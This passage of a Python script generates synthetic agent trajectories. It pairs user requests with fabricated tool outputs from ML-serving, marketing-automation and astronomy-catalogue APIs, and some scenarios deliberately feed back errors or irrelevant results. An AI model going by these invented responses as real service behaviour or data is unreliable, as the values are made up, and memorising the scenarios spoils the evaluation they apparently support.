        'Locking PyPI package versions.\n\n██████╗ ███████╗███╗   ██╗████████╗ ██████╗ ███╗   ███╗██╗\n\nSuccessfully built Bento(tag="summarizer:p2lm6aq7d2vbagqn").\n\nNext steps:\n\n* Deploy to BentoCloud:\n    $ bentoml deploy summarizer:p2lm6aq7d2vbagqn -n ${DEPLOYMENT_NAME}',
    )
    s(
        "shell",
        sh("bentoml list summarizer"),
        " Tag                          Size       Model Size  Creation Time\n summarizer:p2lm6aq7d2vbagqn  14.87 KiB  1.58 GiB    2024-03-19 11:31:40\n summarizer:k3t2vzq4ocx5cgqn  14.21 KiB  1.58 GiB    2024-03-11 16:02:55",
    )
    s(
        "shell",
        sh("bentoml get summarizer:p2lm6aq7d2vbagqn -o json | jq '.models'"),
        J(
            [
                {
                    "tag": "bart-large-cnn:6wqd3lq5bkkxuc2v",
                    "module": "bentoml.transformers",
                    "creation_time": "2024-03-08T10:12:44Z",
                }
            ]
        ),
    )

    s = S(
        "bentoml",
        False,
        1,
        "Call the deployed invoice-classifier bento on our gateway for these 7 documents and return the labels.",
    )
    page = (
        "<!DOCTYPE html>\n<html><head><title>Scheduled maintenance</title></head>\n<body><h1>We'll be back soon</h1>\n<p>The ML gateway is undergoing scheduled maintenance. "
        'Inference endpoints are temporarily unavailable. Status: <a href="https://status.acme-ml.internal">status.acme-ml.internal</a></p>\n</body></html>'
    )
    for i in range(7):
        s(
            "http_request",
            http(
                "POST",
                "https://ml-gw.acme.internal/invoice-classifier/classify",
                {"text": f"doc-{i + 1} contents"},
            ),
            page,
        )
    s("http_request", http("GET", "https://ml-gw.acme.internal/invoice-classifier/readyz"), page)

    s = S(
        "feast",
        True,
        1,
        "Materialize the driver stats features up to now and fetch online features for drivers 1001 and 1004.",
    )
    s("shell", sh("feast apply"), "No changes to registry\nNo changes to infrastructure")
    s(
        "shell",
        sh("feast materialize-incremental 2024-03-19T12:00:00"),
        "Materializing 1 feature views to 2024-03-19 12:00:00+00:00 into the redis online store.\n\ndriver_hourly_stats from 2024-03-18 12:00:13+00:00 to 2024-03-19 12:00:00+00:00:\n100%|████████████████████████████████████████████████████████| 5/5 [00:00<00:00, 212.40it/s]",
    )
    s(
        "http_request",
        http(
            "POST",
            "http://feast-server:6566/get-online-features",
            {
                "features": ["driver_hourly_stats:conv_rate", "driver_hourly_stats:acc_rate"],
                "entities": {"driver_id": [1001, 1004]},
            },
        ),
        J(
            {
                "metadata": {"feature_names": ["driver_id", "conv_rate", "acc_rate"]},
                "results": [
                    {
                        "values": [1001, 1004],
                        "statuses": ["PRESENT", "PRESENT"],
                        "event_timestamps": ["1970-01-01T00:00:00Z", "1970-01-01T00:00:00Z"],
                    },
                    {
                        "values": [0.412, 0.187],
                        "statuses": ["PRESENT", "PRESENT"],
                        "event_timestamps": ["2024-03-19T11:00:00Z", "2024-03-19T11:00:00Z"],
                    },
                    {
                        "values": [0.902, 0.771],
                        "statuses": ["PRESENT", "PRESENT"],
                        "event_timestamps": ["2024-03-19T11:00:00Z", "2024-03-19T11:00:00Z"],
                    },
                ],
            }
        ),
    )
    s(
        "shell",
        sh("feast feature-views list"),
        "NAME                 ENTITIES     TYPE\ndriver_hourly_stats  {'driver'}   FeatureView",
    )

    s = S(
        "feast",
        False,
        1,
        "Get the online customer risk features for the 6 accounts flagged today so the analyst can review them.",
    )
    for ids in [[77012], [77019], [77031], [77012, 77019], [77044], [77050], [77061]]:
        n = len(ids)
        s(
            "http_request",
            http(
                "POST",
                "http://feast-server:6566/get-online-features",
                {
                    "features": [
                        "customer_risk:chargeback_90d",
                        "customer_risk:velocity_1h",
                        "customer_risk:score",
                    ],
                    "entities": {"customer_id": ids},
                },
            ),
            J(
                {
                    "metadata": {
                        "feature_names": ["customer_id", "chargeback_90d", "velocity_1h", "score"]
                    },
                    "results": [
                        {
                            "values": ids,
                            "statuses": ["PRESENT"] * n,
                            "event_timestamps": ["1970-01-01T00:00:00Z"] * n,
                        }
                    ]
                    + [
                        {
                            "values": [None] * n,
                            "statuses": ["NOT_FOUND"] * n,
                            "event_timestamps": ["1970-01-01T00:00:00Z"] * n,
                        }
                        for _ in range(3)
                    ],
                }
            ),
        )

    s = S(
        "seldon",
        True,
        1,
        "Is the fraud-scorer SeldonDeployment available, and what does it return for the sample transaction?",
    )
    s(
        "shell",
        sh("kubectl get sdep -n seldon"),
        "NAME           AGE\nfraud-scorer   41d\nrecsys-v2      12d",
    )
    s(
        "shell",
        sh(
            "kubectl get sdep fraud-scorer -n seldon -o jsonpath='{.status.state}{\"\\n\"}{.status.replicas}'"
        ),
        "Available\n2",
    )
    s(
        "shell",
        sh(
            "curl -s http://seldon.acme.internal/seldon/seldon/fraud-scorer/v2/models/infer -H 'Content-Type: application/json' -d @sample_txn.json"
        ),
        J(
            {
                "model_name": "fraud-scorer_1",
                "model_version": "v1",
                "id": h("infer1", 36),
                "parameters": {},
                "outputs": [
                    {
                        "name": "predict_proba",
                        "shape": [1, 2],
                        "datatype": "FP64",
                        "parameters": {"content_type": "np"},
                        "data": [0.9712, 0.0288],
                    }
                ],
            }
        ),
    )


# ---------------------------------------------------------------- marketing automation / messaging
def marketing() -> None:
    MK = "https://123-ABC-456.mktorest.com"
    s = S(
        "marketo",
        True,
        1,
        "Export all leads created in February from Marketo (email, company, lead source) and tell me how many came from webinars.",
    )
    ex = (
        h("mk-export", 8)
        + "-"
        + h("mk2", 4)
        + "-"
        + h("mk3", 4)
        + "-"
        + h("mk4", 4)
        + "-"
        + h("mk5", 12)
    )
    rq = lambda k: h(k, 4) + "#" + h(k + "r", 11)
    s(
        "marketo_api",
        http(
            "POST",
            f"{MK}/bulk/v1/leads/export/create.json",
            {
                "fields": ["email", "company", "leadSource"],
                "format": "CSV",
                "filter": {
                    "createdAt": {
                        "startAt": "2024-02-01T00:00:00Z",
                        "endAt": "2024-02-29T23:59:59Z",
                    }
                },
            },
        ),
        J(
            {
                "requestId": rq("c"),
                "result": [
                    {
                        "exportId": ex,
                        "format": "CSV",
                        "status": "Created",
                        "createdAt": "2024-03-19T10:02:11Z",
                    }
                ],
                "success": True,
            }
        ),
    )
    s(
        "marketo_api",
        http("POST", f"{MK}/bulk/v1/leads/export/{ex}/enqueue.json"),
        J(
            {
                "requestId": rq("e"),
                "result": [
                    {
                        "exportId": ex,
                        "format": "CSV",
                        "status": "Queued",
                        "createdAt": "2024-03-19T10:02:11Z",
                        "queuedAt": "2024-03-19T10:02:14Z",
                    }
                ],
                "success": True,
            }
        ),
    )
    s(
        "marketo_api",
        http("GET", f"{MK}/bulk/v1/leads/export/{ex}/status.json"),
        J(
            {
                "requestId": rq("s1"),
                "result": [
                    {
                        "exportId": ex,
                        "format": "CSV",
                        "status": "Processing",
                        "createdAt": "2024-03-19T10:02:11Z",
                        "queuedAt": "2024-03-19T10:02:14Z",
                        "startedAt": "2024-03-19T10:03:02Z",
                    }
                ],
                "success": True,
            }
        ),
    )
    s(
        "marketo_api",
        http("GET", f"{MK}/bulk/v1/leads/export/{ex}/status.json"),
        J(
            {
                "requestId": rq("s2"),
                "result": [
                    {
                        "exportId": ex,
                        "format": "CSV",
                        "status": "Processing",
                        "createdAt": "2024-03-19T10:02:11Z",
                        "queuedAt": "2024-03-19T10:02:14Z",
                        "startedAt": "2024-03-19T10:03:02Z",
                    }
                ],
                "success": True,
            }
        ),
    )
    s(
        "marketo_api",
        http("GET", f"{MK}/bulk/v1/leads/export/{ex}/status.json"),
        J(
            {
                "requestId": rq("s3"),
                "result": [
                    {
                        "exportId": ex,
                        "format": "CSV",
                        "status": "Completed",
                        "createdAt": "2024-03-19T10:02:11Z",
                        "queuedAt": "2024-03-19T10:02:14Z",
                        "startedAt": "2024-03-19T10:03:02Z",
                        "finishedAt": "2024-03-19T10:04:40Z",
                        "numberOfRecords": 6,
                        "fileSize": 301,
                        "fileChecksum": "sha256:" + h("file", 64),
                    }
                ],
                "success": True,
            }
        ),
    )
    s(
        "marketo_api",
        http("GET", f"{MK}/bulk/v1/leads/export/{ex}/file.json"),
        "email,company,leadSource\nr.ahmed@tallisgroup.co.uk,Tallis Group,Webinar\nmkowalski@breva.pl,Breva,Website\nj.ono@kitsune-sys.jp,Kitsune Systems,Webinar\n"
        "anna.berg@nordkyl.se,Nordkyl AB,Trade Show\nd.lee@pinecrest.io,Pinecrest,Webinar\nfelipe@olmeda.mx,Olmeda,Paid Search\n",
    )

    s = S(
        "marketo",
        True,
        2,
        "Has lead 88412 opened any email since we moved them to the nurture program on 1 March? List the activity.",
    )
    s(
        "marketo_api",
        http("GET", f"{MK}/rest/v1/activities/pagingtoken.json?sinceDatetime=2024-03-01T00:00:00Z"),
        J({"requestId": rq("p"), "success": True, "nextPageToken": h("pt0", 32).upper()}),
    )
    s(
        "marketo_api",
        http(
            "GET",
            f"{MK}/rest/v1/activities.json?nextPageToken={h('pt0', 32).upper()}&activityTypeIds=10,11&leadIds=88412",
        ),
        J(
            {
                "requestId": rq("a1"),
                "success": True,
                "nextPageToken": h("pt1", 32).upper(),
                "moreResult": True,
            }
        ),
    )
    s(
        "marketo_api",
        http(
            "GET",
            f"{MK}/rest/v1/activities.json?nextPageToken={h('pt1', 32).upper()}&activityTypeIds=10,11&leadIds=88412",
        ),
        J(
            {
                "requestId": rq("a2"),
                "success": True,
                "nextPageToken": h("pt2", 32).upper(),
                "moreResult": True,
                "result": [
                    {
                        "id": 55129007,
                        "marketoGUID": "55129007",
                        "leadId": 88412,
                        "activityDate": "2024-03-06T14:22:51Z",
                        "activityTypeId": 10,
                        "primaryAttributeValueId": 4471,
                        "primaryAttributeValue": "Nurture - Ops Efficiency - Email 1",
                        "attributes": [
                            {"name": "Device", "value": "Desktop"},
                            {"name": "Platform", "value": "Windows"},
                        ],
                    }
                ],
            }
        ),
    )
    s(
        "marketo_api",
        http(
            "GET",
            f"{MK}/rest/v1/activities.json?nextPageToken={h('pt2', 32).upper()}&activityTypeIds=10,11&leadIds=88412",
        ),
        J(
            {
                "requestId": rq("a3"),
                "success": True,
                "nextPageToken": h("pt3", 32).upper(),
                "moreResult": False,
                "result": [
                    {
                        "id": 55301442,
                        "marketoGUID": "55301442",
                        "leadId": 88412,
                        "activityDate": "2024-03-13T09:05:10Z",
                        "activityTypeId": 11,
                        "primaryAttributeValueId": 4472,
                        "primaryAttributeValue": "Nurture - Ops Efficiency - Email 2",
                        "attributes": [
                            {"name": "Link", "value": "https://acme.com/case-studies/harbour"}
                        ],
                    }
                ],
            }
        ),
    )

    s = S(
        "marketo",
        False,
        1,
        "Find the Marketo leads from Tallis Group and Breva and add them to the 'Q2 ABM' static list.",
    )
    e602 = lambda k: J(
        {
            "requestId": rq(k),
            "success": False,
            "errors": [{"code": "602", "message": "Access token expired"}],
        }
    )
    for i, p in enumerate(
        [
            "/rest/v1/leads.json?filterType=company&filterValues=Tallis%20Group",
            "/rest/v1/leads.json?filterType=company&filterValues=Breva",
            "/rest/v1/leads.json?filterType=email&filterValues=r.ahmed@tallisgroup.co.uk",
            "/rest/asset/v1/staticLists.json?name=Q2%20ABM",
            "/rest/v1/lists.json?name=Q2%20ABM",
            "/rest/v1/leads.json?filterType=company&filterValues=Tallis",
            "/rest/v1/leads.json?filterType=email&filterValues=mkowalski@breva.pl",
        ]
    ):
        s("marketo_api", http("GET", MK + p), e602(f"x{i}"))

    BZ = "https://rest.fra-02.braze.eu"
    s = S(
        "braze",
        True,
        1,
        "How did the 'Spring Sale push' campaign do over its first three days, and is user u_55102 still subscribed to push?",
    )
    cid = (
        h("braze-camp", 8)
        + "-"
        + h("bz2", 4)
        + "-"
        + h("bz3", 4)
        + "-"
        + h("bz4", 4)
        + "-"
        + h("bz5", 12)
    )
    s(
        "braze_api",
        http("GET", f"{BZ}/campaigns/list?page=0&include_archived=false&sort_direction=desc"),
        J(
            {
                "message": "success",
                "campaigns": [
                    {
                        "id": cid,
                        "last_edited": "2024-03-15T08:40:12+00:00",
                        "name": "Spring Sale push",
                        "is_api_campaign": False,
                        "tags": ["seasonal"],
                    },
                    {
                        "id": h("c2", 36),
                        "last_edited": "2024-03-12T16:01:00+00:00",
                        "name": "Win-back Q1",
                        "is_api_campaign": False,
                        "tags": [],
                    },
                ],
            }
        ),
    )
    s(
        "braze_api",
        http(
            "GET",
            f"{BZ}/campaigns/data_series?campaign_id={cid}&length=3&ending_at=2024-03-18T23:59:59Z",
        ),
        J(
            {
                "message": "success",
                "data": [
                    {
                        "time": d,
                        "messages": {
                            "ios_push": [
                                {
                                    "sent": se,
                                    "direct_opens": op,
                                    "total_opens": op + 41,
                                    "bounces": b,
                                }
                            ],
                            "android_push": [
                                {
                                    "sent": se2,
                                    "direct_opens": op2,
                                    "total_opens": op2 + 20,
                                    "bounces": 0,
                                }
                            ],
                        },
                        "conversions": cv,
                        "unique_recipients": se + se2,
                    }
                    for d, se, op, b, se2, op2, cv in [
                        ("2024-03-16", 41220, 1877, 12, 30511, 1402, 604),
                        ("2024-03-17", 0, 402, 0, 0, 233, 211),
                        ("2024-03-18", 0, 96, 0, 0, 71, 58),
                    ]
                ],
            }
        ),
    )
    s(
        "braze_api",
        http(
            "POST",
            f"{BZ}/users/export/ids",
            {
                "external_ids": ["u_55102"],
                "fields_to_export": [
                    "external_id",
                    "push_subscribe",
                    "push_opted_in_at",
                    "email_subscribe",
                ],
            },
        ),
        J(
            {
                "message": "success",
                "users": [
                    {
                        "external_id": "u_55102",
                        "push_subscribe": "unsubscribed",
                        "push_opted_in_at": "2023-07-01T10:00:00.000Z",
                        "email_subscribe": "opted_in",
                    }
                ],
            }
        ),
    )

    s = S(
        "braze",
        False,
        1,
        "Check the push tokens and last session dates for the 8 VIP customers in vip.csv before tomorrow's send.",
    )
    for ids in [
        ["vip_0031"],
        ["vip_0044"],
        ["vip_0107"],
        ["vip_0031", "vip_0044"],
        ["vip_0212"],
        ["vip_0298"],
        ["vip_0315", "vip_0320"],
    ]:
        s(
            "braze_api",
            http(
                "POST",
                f"{BZ}/users/export/ids",
                {"external_ids": ids, "fields_to_export": ["external_id", "push_tokens", "apps"]},
            ),
            J({"message": "success", "users": [], "invalid_user_ids": ids}),
        )

    IT = "https://api.iterable.com/api"
    s = S(
        "iterable",
        True,
        1,
        "Send the 'order delayed' transactional email to ana.lopes@example.pt for order 55120, then confirm it went out.",
    )
    s(
        "iterable_api",
        http("GET", f"{IT}/users/ana.lopes@example.pt"),
        J(
            {
                "user": {
                    "email": "ana.lopes@example.pt",
                    "userId": "c_90311",
                    "dataFields": {"firstName": "Ana", "locale": "pt_PT", "emailListIds": [4411]},
                    "signupDate": "2022-05-02 11:20:44 +00:00",
                }
            }
        ),
    )
    s(
        "iterable_api",
        http(
            "POST",
            f"{IT}/email/target",
            {
                "campaignId": 7710342,
                "recipientEmail": "ana.lopes@example.pt",
                "dataFields": {"orderId": "55120", "newEta": "2024-03-22"},
            },
        ),
        J({"msg": "", "code": "Success", "params": None}),
    )
    s(
        "iterable_api",
        http("GET", f"{IT}/export/userEvents?email=ana.lopes@example.pt&includeCustomEvents=false"),
        '{"createdAt":"2024-03-19 12:40:02 +00:00","campaignId":7710342,"templateId":10221903,"messageId":"'
        + h("msg", 32)
        + '","email":"ana.lopes@example.pt","eventName":"emailSend","contentId":88120}\n'
        '{"createdAt":"2024-03-19 12:40:05 +00:00","campaignId":7710342,"messageId":"'
        + h("msg", 32)
        + '","email":"ana.lopes@example.pt","eventName":"emailDelivered"}',
    )

    MC = "https://us14.api.mailchimp.com/3.0"
    s = S(
        "mailchimp",
        True,
        1,
        "Tag everyone who clicked in last week's 'March Product Update' campaign as 'engaged-mar' in Mailchimp.",
    )
    s(
        "mailchimp_api",
        http(
            "GET",
            f"{MC}/campaigns?since_send_time=2024-03-10T00:00:00Z&fields=campaigns.id,campaigns.settings.title",
        ),
        J({"campaigns": [{"id": "b7e21c0d4f", "settings": {"title": "March Product Update"}}]}),
    )
    s(
        "mailchimp_api",
        http("GET", f"{MC}/reports/b7e21c0d4f/click-details/{h('link', 10)}/members?count=100"),
        J(
            {
                "members": [
                    {"email_id": h(m, 32), "email_address": m, "clicks": c, "list_id": "9f2a11be07"}
                    for m, c in [
                        ("o.hart@varda.no", 2),
                        ("k.silva@lumen.br", 1),
                        ("t.nguyen@hoanglab.vn", 1),
                    ]
                ],
                "campaign_id": "b7e21c0d4f",
                "total_items": 3,
            }
        ),
    )
    for m in ["o.hart@varda.no", "k.silva@lumen.br", "t.nguyen@hoanglab.vn"]:
        s(
            "mailchimp_api",
            http(
                "POST",
                f"{MC}/lists/9f2a11be07/members/{h(m, 32)}/tags",
                {"tags": [{"name": "engaged-mar", "status": "active"}]},
            ),
            "HTTP 204 No Content",
        )
    s(
        "mailchimp_api",
        http(
            "GET",
            f"{MC}/lists/9f2a11be07/segments?type=static&fields=segments.name,segments.member_count",
        ),
        J(
            {
                "segments": [
                    {"name": "engaged-mar", "member_count": 3},
                    {"name": "engaged-feb", "member_count": 41},
                ]
            }
        ),
    )

    s = S(
        "mailchimp",
        False,
        1,
        "Get open and click rates for our last 8 newsletters from Mailchimp for the quarterly deck.",
    )
    for cid2 in [
        "b7e21c0d4f",
        "a11f9e22c3",
        "9c0d17ee41",
        "84f2a0bb19",
        "7ad3c9e120",
        "6e01f4c7aa",
        "5b9e2d1c0f",
        "b7e21c0d4f",
    ]:
        s(
            "mailchimp_api",
            http("GET", f"{MC}/reports/{cid2}?fields=opens.open_rate,clicks.click_rate"),
            J(
                {
                    "type": "https://mailchimp.com/developer/marketing/docs/errors/",
                    "title": "Too Many Requests",
                    "status": 429,
                    "detail": "You have exceeded the limit of 10 simultaneous connections.",
                    "instance": h(cid2, 8)
                    + "-"
                    + h(cid2 + "i", 4)
                    + "-"
                    + h(cid2 + "j", 4)
                    + "-"
                    + h(cid2 + "k", 12),
                }
            ),
        )

    SG = "https://api.sendgrid.com/v3"
    s = S(
        "sendgrid",
        True,
        1,
        "Why didn't billing@harlowcivil.com get our invoices this week? Check SendGrid bounces/blocks and clear it if it's a stale bounce.",
    )
    s("sendgrid_api", http("GET", f"{SG}/suppression/blocks/billing@harlowcivil.com"), "[]")
    s("sendgrid_api", http("GET", f"{SG}/suppression/spam_reports/billing@harlowcivil.com"), "[]")
    s(
        "sendgrid_api",
        http("GET", f"{SG}/suppression/bounces/billing@harlowcivil.com"),
        J(
            [
                {
                    "created": 1708940022,
                    "email": "billing@harlowcivil.com",
                    "reason": "550 5.1.1 <billing@harlowcivil.com>: Recipient address rejected: User unknown in virtual mailbox table",
                    "status": "5.1.1",
                }
            ]
        ),
    )
    s(
        "sendgrid_api",
        http("DELETE", f"{SG}/suppression/bounces/billing@harlowcivil.com"),
        "HTTP 204 No Content",
    )
    s(
        "sendgrid_api",
        http("GET", f"{SG}/stats?start_date=2024-03-11&end_date=2024-03-17&aggregated_by=week"),
        J(
            [
                {
                    "date": "2024-03-11",
                    "stats": [
                        {
                            "metrics": {
                                "requests": 4210,
                                "delivered": 4102,
                                "bounces": 31,
                                "bounce_drops": 77,
                                "blocks": 0,
                                "opens": 1980,
                                "unique_opens": 1433,
                                "clicks": 402,
                                "spam_reports": 1,
                            }
                        }
                    ],
                }
            ]
        ),
    )

    s = S(
        "sendgrid",
        False,
        1,
        "Pull last month's SendGrid delivery stats per category (invoices, receipts, marketing) for the deliverability report.",
    )
    forb = J({"errors": [{"field": None, "message": "access forbidden"}]})
    for p in [
        "categories/stats?start_date=2024-02-01&end_date=2024-02-29&categories=invoices",
        "categories/stats?start_date=2024-02-01&end_date=2024-02-29&categories=receipts",
        "categories/stats?start_date=2024-02-01&end_date=2024-02-29&categories=marketing",
        "categories?limit=50",
        "stats?start_date=2024-02-01&end_date=2024-02-29&aggregated_by=month",
        "categories/stats/sums?start_date=2024-02-01&end_date=2024-02-29",
        "stats?start_date=2024-02-01&end_date=2024-02-29",
    ]:
        s("sendgrid_api", http("GET", f"{SG}/{p}"), forb)

    SP = "https://profiles.segment.com/v1/spaces/spa_" + h("space", 22)
    s = S(
        "segment",
        True,
        1,
        "What plan is customer acct_30917 on according to Segment, and when did they last view the pricing page?",
    )
    s(
        "segment_profiles",
        http("GET", f"{SP}/collections/users/profiles/user_id:acct_30917/traits?limit=20"),
        J(
            {
                "traits": {
                    "plan": "growth",
                    "seats": 14,
                    "company": "Orrell & Daughters",
                    "created_at": "2021-10-04T09:12:55Z",
                },
                "cursor": {"url": "", "has_more": False, "next": ""},
            }
        ),
    )
    s(
        "segment_profiles",
        http("GET", f"{SP}/collections/users/profiles/user_id:acct_30917/events?limit=10"),
        J(
            {
                "data": [
                    {"type": "track", "event": "Seat Added", "timestamp": "2024-03-18T15:03:11Z"},
                    {"type": "identify", "timestamp": "2024-03-18T15:03:10Z"},
                ],
                "cursor": {
                    "url": "/events?next=" + h("n1", 20),
                    "has_more": True,
                    "next": h("n1", 20),
                },
            }
        ),
    )
    s(
        "segment_profiles",
        http(
            "GET",
            f"{SP}/collections/users/profiles/user_id:acct_30917/events?limit=10&next={h('n1', 20)}",
        ),
        J(
            {
                "data": [
                    {
                        "type": "page",
                        "name": "Pricing",
                        "properties": {"path": "/pricing"},
                        "timestamp": "2024-03-14T10:44:02Z",
                    },
                    {"type": "track", "event": "Invoice Paid", "timestamp": "2024-03-01T00:02:40Z"},
                ],
                "cursor": {"url": "", "has_more": False, "next": ""},
            }
        ),
    )


# ---------------------------------------------------------------- astronomy catalogues
M31 = (
    "<Table length=1>\n main_id      ra           dec       coo_err_maj coo_err_min coo_err_angle coo_wavelength     coo_bibcode     matched_id\n"
    "              deg           deg           mas         mas          deg                                                \n"
    " object     float64       float64      float32     float32        int16          str1             object          object  \n"
    "------- ------------- ------------- ----------- ----------- ------------- -------------- ------------------- ----------\n"
    "  M  31 10.6847083333 41.2687500000     --          --             0              I 2006AJ....131.1163S      M  31"
)


def astro() -> None:
    s = S(
        "simbad",
        True,
        1,
        "Give me the coordinates, spectral type and V magnitude of HD 209458 and list its other identifiers that start with 'Gaia'.",
    )
    s(
        "python",
        {
            "code": "from astroquery.simbad import Simbad\nS = Simbad(); S.add_votable_fields('sp', 'V')\nprint(S.query_object('HD 209458'))"
        },
        "<Table length=1>\n  main_id         ra              dec       ... sp_type   V    matched_id\n                 deg              deg       ...                            \n"
        "   object      float64          float64     ...  object float64   object  \n----------- --------------- --------------- ... ------- ------- ----------\n"
        "HD 209458   330.79502929 18.88431714 ...    F9V   7.63  HD 209458",
    )
    s(
        "python",
        {
            "code": "ids = Simbad.query_objectids('HD 209458')\nprint([i for i in ids['id'] if i.startswith('Gaia')])"
        },
        "['Gaia DR3 1779546757669063552', 'Gaia DR2 1779546757669063552', 'Gaia DR1 1779546753370764416']",
    )
    s(
        "python",
        {
            "code": "from astropy.coordinates import SkyCoord\nc = SkyCoord(330.79502929, 18.88431714, unit='deg')\nprint(c.to_string('hmsdms'))"
        },
        "22h03m10.80707s +18d53m03.54170s",
    )

    s = S(
        "simbad",
        False,
        1,
        "Get the SIMBAD object types and redshifts of NGC 4151, Mrk 421, 3C 273, PKS 2155-304 and Cen A.",
    )
    for name in [
        "NGC 4151",
        "Mrk 421",
        "3C 273",
        "PKS 2155-304",
        "Cen A",
        "NGC4151",
        "Markarian 421",
    ]:
        s("simbad_query", {"object": name, "fields": ["otype", "rvz_redshift"]}, M31)

    s = S(
        "vizier",
        True,
        1,
        "Cross-match my target at RA 56.75 Dec 24.12 (Pleiades field) against 2MASS within 30 arcsec and report J, H, K of the nearest source.",
    )
    s(
        "python",
        {
            "code": "from astroquery.vizier import Vizier\nimport astropy.units as u\nfrom astropy.coordinates import SkyCoord\nr = Vizier(catalog='II/246/out', columns=['2MASS','RAJ2000','DEJ2000','Jmag','Hmag','Kmag','+_r']).query_region(SkyCoord(56.75, 24.12, unit='deg'), radius=30*u.arcsec)\nprint(r)"
        },
        "TableList with 1 tables:\n\t'0:II/246/out' with 7 column(s) and 2 row(s) ",
    )
    s(
        "python",
        {"code": "print(r[0])"},
        "  _r         2MASS        RAJ2000    DEJ2000    Jmag   Hmag   Kmag \n        arcmin                      deg        deg      mag    mag    mag  \n"
        "------ ---------------- ---------- ---------- ------ ------ ------\n 0.121 03465991+2407302  56.749641  24.125069 10.412  9.981  9.877\n 0.402 03470207+2406592  56.758625  24.116458 13.870 13.301 13.188",
    )
    s(
        "python",
        {
            "code": "print(Vizier(catalog='I/355/gaiadr3').query_region(SkyCoord(56.749641, 24.125069, unit='deg'), radius=2*u.arcsec))"
        },
        "Empty TableList",
    )

    s = S(
        "gaia",
        True,
        1,
        "How many Gaia DR3 stars brighter than G=12 lie within 1 degree of the Pleiades centre, and what is their median parallax?",
    )
    s(
        "python",
        {
            "code": 'from astroquery.gaia import Gaia\njob = Gaia.launch_job_async("SELECT source_id, phot_g_mean_mag, parallax FROM gaiadr3.gaia_source WHERE 1=CONTAINS(POINT(ra,dec), CIRCLE(56.75,24.1167,1)) AND phot_g_mean_mag<12")\nprint(job)'
        },
        "INFO: Query finished. [astroquery.utils.tap.core]\nJobid: 1710846210355O\nPhase: COMPLETED\nOwner: None\nOutput file: async_20240319110330.vot\nResults: None",
    )
    s(
        "python",
        {
            "code": "t = job.get_results(); print(len(t)); import numpy as np; print(np.nanmedian(t['parallax']))"
        },
        "203\n7.3642",
    )
    s(
        "python",
        {"code": "print(t[:3])"},
        "     source_id      phot_g_mean_mag      parallax     \n                         mag               mas        \n"
        "------------------- --------------- ------------------\n 65205738580709888        2.7928   7.2963185113 \n 66526127137440128        3.6170   7.4178020117 \n 66729982706433152        5.4122   7.3921550410 ",
    )

    s = S(
        "gaia",
        False,
        1,
        "Run the proper-motion selection for the Hyades candidates on the Gaia archive and give me the count.",
    )
    maint = (
        "HTTPError: Error 503:\n<html><head><title>Gaia Archive - Maintenance</title></head><body><h2>The Gaia ESA Archive is currently under maintenance.</h2>"
        "<p>We apologise for the inconvenience. Please try again later.</p></body></html>"
    )
    for q in [
        "SELECT COUNT(*) FROM gaiadr3.gaia_source WHERE pmra BETWEEN 90 AND 120 AND pmdec BETWEEN -40 AND -10 AND parallax > 15",
        "SELECT COUNT(*) FROM gaiadr3.gaia_source WHERE pmra BETWEEN 90 AND 120 AND pmdec BETWEEN -40 AND -10",
        "SELECT TOP 10 source_id FROM gaiadr3.gaia_source",
        "SELECT COUNT(*) FROM gaiadr2.gaia_source WHERE pmra BETWEEN 90 AND 120 AND parallax > 15",
        "SELECT COUNT(*) FROM gaiadr3.gaia_source WHERE parallax > 15 AND 1=CONTAINS(POINT(ra,dec), CIRCLE(66.75,15.87,10))",
        "SELECT 1",
    ]:
        s(
            "python",
            {"code": f'job = Gaia.launch_job_async("{q}")\nprint(job.get_results())'},
            maint,
        )
    s("python", {"code": "print(Gaia.load_tables(only_names=True)[:3])"}, maint)

    SB = "https://ssd-api.jpl.nasa.gov"
    s = S(
        "sbdb",
        True,
        1,
        "What are the orbital elements of 99942 Apophis and when is its next close approach to Earth under 0.05 au?",
    )
    s(
        "http_request",
        http("GET", f"{SB}/sbdb.api?sstr=Apophis"),
        J(
            {
                "signature": {
                    "version": "1.3",
                    "source": "NASA/JPL Small-Body Database (SBDB) API",
                },
                "object": {
                    "fullname": "99942 Apophis (2004 MN4)",
                    "des": "99942",
                    "spkid": "2099942",
                    "kind": "an",
                    "neo": True,
                    "pha": True,
                    "orbit_class": {"code": "ATE", "name": "Aten"},
                },
                "orbit": {
                    "epoch": "2460400.5",
                    "source": "JPL",
                    "orbit_id": "220",
                    "moid": ".000252474",
                    "condition_code": "0",
                    "n_obs_used": 7479,
                    "data_arc": "6343",
                    "elements": [
                        {"name": "e", "value": ".1911450913", "sigma": "1.3E-8", "label": "e"},
                        {
                            "name": "a",
                            "value": ".9223803593",
                            "sigma": "3.3E-9",
                            "units": "au",
                            "label": "a",
                        },
                        {
                            "name": "i",
                            "value": "3.336802079",
                            "sigma": "4.6E-7",
                            "units": "deg",
                            "label": "i",
                        },
                        {
                            "name": "om",
                            "value": "203.9569545",
                            "sigma": "2.8E-5",
                            "units": "deg",
                            "label": "node",
                        },
                        {
                            "name": "w",
                            "value": "126.6627397",
                            "sigma": "2.9E-5",
                            "units": "deg",
                            "label": "peri",
                        },
                        {"name": "per", "value": "323.5732839", "units": "d", "label": "period"},
                    ],
                },
            }
        ),
    )
    s(
        "http_request",
        http("GET", f"{SB}/cad.api?des=99942&date-min=now&dist-max=0.05&body=Earth"),
        J(
            {
                "signature": {"source": "NASA/JPL SBDB Close Approach Data API", "version": "1.5"},
                "count": "1",
                "fields": [
                    "des",
                    "orbit_id",
                    "jd",
                    "cd",
                    "dist",
                    "dist_min",
                    "dist_max",
                    "v_rel",
                    "v_inf",
                    "t_sigma_f",
                    "h",
                ],
                "data": [
                    [
                        "99942",
                        "220",
                        "2462240.407091041",
                        "2029-Apr-13 21:46",
                        "0.000254099",
                        "0.000254092",
                        "0.000254106",
                        "7.42249",
                        "5.84113",
                        "< 00:01",
                        "19.09",
                    ]
                ],
            }
        ),
    )

    s = S(
        "sbdb",
        True,
        2,
        "Are there any comets in SBDB with perihelion under 0.1 au that were discovered this year? If none, say so.",
    )
    s(
        "http_request",
        http(
            "GET",
            f"{SB}/sbdb_query.api?fields=full_name,q,first_obs&sb-kind=c&sb-cdata="
            + '{"AND":["q|LT|0.1","first_obs|GE|2024-01-01"]}',
        ),
        J(
            {
                "signature": {
                    "version": "1.0",
                    "source": "NASA/JPL Small-Body Database (SBDB) Query API",
                },
                "count": 0,
                "fields": ["full_name", "q", "first_obs"],
                "data": [],
            }
        ),
    )
    s(
        "http_request",
        http(
            "GET",
            f"{SB}/sbdb_query.api?fields=full_name,q,first_obs&sb-kind=c&sb-cdata="
            + '{"AND":["q|LT|0.1","first_obs|GE|2023-01-01"]}',
        ),
        J(
            {
